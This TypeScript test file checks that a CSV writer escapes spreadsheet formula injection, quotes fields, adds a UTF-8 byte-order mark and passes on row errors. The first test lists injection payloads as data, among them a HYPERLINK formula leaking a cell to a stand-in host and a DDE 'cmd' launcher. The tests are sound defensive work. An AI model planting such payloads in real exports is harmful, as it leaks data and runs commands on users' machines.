import { buffer, text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type CsvRow, csvFile } from './csv.js';

const written = async (rows: CsvRow[], header = ['value']): Promise<string> => text(csvFile(header, rows));
const cells = async (values: (string | number | null)[]): Promise<string[]> =>
  (parse(await written(values.map((value) => [value])), { columns: true }) as { value: string }[]).map((row) => row.value);

describe('the CSV writer', () => {
  it('writes text a spreadsheet would run as a formula with a leading apostrophe', async () => {
    const payloads = ['=HYPERLINK("http://evil.test/?leak="&Q2)', '+SUM(1+1)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,2)', '\t=1+1', '\r=1+1', '＝1+1', '-1200', '-'];
    expect(await cells(payloads)).toEqual(payloads.map((payload) => `'${payload}`));
  });

  it('leaves other text, numbers and empty cells as they are', async () => {
    expect(await cells(['Ana', 'O\'Brien', 'a=b', ' =1', '2024-04-01', '55000.01', '', null])).toEqual(['Ana', "O'Brien", 'a=b', ' =1', '2024-04-01', '55000.01', '', '']);
    expect(await written([[-1200, 0.5, 3e21, 'x']], ['a', 'b', 'c', 'd'])).toBe('a,b,c,d\n-1200,0.5,3e+21,x\n');
  });

  it('quotes what needs quoting, the apostrophe inside the quotes', async () => {
    expect(await written([['=1,2'], ['say "hi"'], ['two\nlines']])).toBe('value\n"\'=1,2"\n"say ""hi"""\n"two\nlines"\n');
  });

  it('starts the file with the UTF-8 byte-order mark, and writes en-dashes and accents as UTF-8', async () => {
    const bytes = await buffer(csvFile(['Location'], [['Raleigh–Durham'], ['Zürich']]));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // "Location\n" after the mark, then R a l e i g h and the en-dash U+2013 as E2 80 93.
    expect(bytes.subarray(3, 12).toString('latin1')).toBe('Location\n');
    expect([...bytes.subarray(19, 22)]).toEqual([0xe2, 0x80, 0x93]);
    expect(bytes.subarray(3).toString('utf8')).toBe('Location\nRaleigh–Durham\nZürich\n');
    // One mark only, even for a file with no rows.
    const empty = await buffer(csvFile(['a', 'b'], []));
    expect([...empty]).toEqual([0xef, 0xbb, 0xbf, ...Buffer.from('a,b\n')]);
  });

  it('fails the file when the rows fail', async () => {
    async function* failing(): AsyncGenerator<CsvRow> {
      yield ['first'];
      throw new Error('the database went away');
    }
    await expect(text(csvFile(['value'], failing()))).rejects.toThrow('the database went away');
  });
});
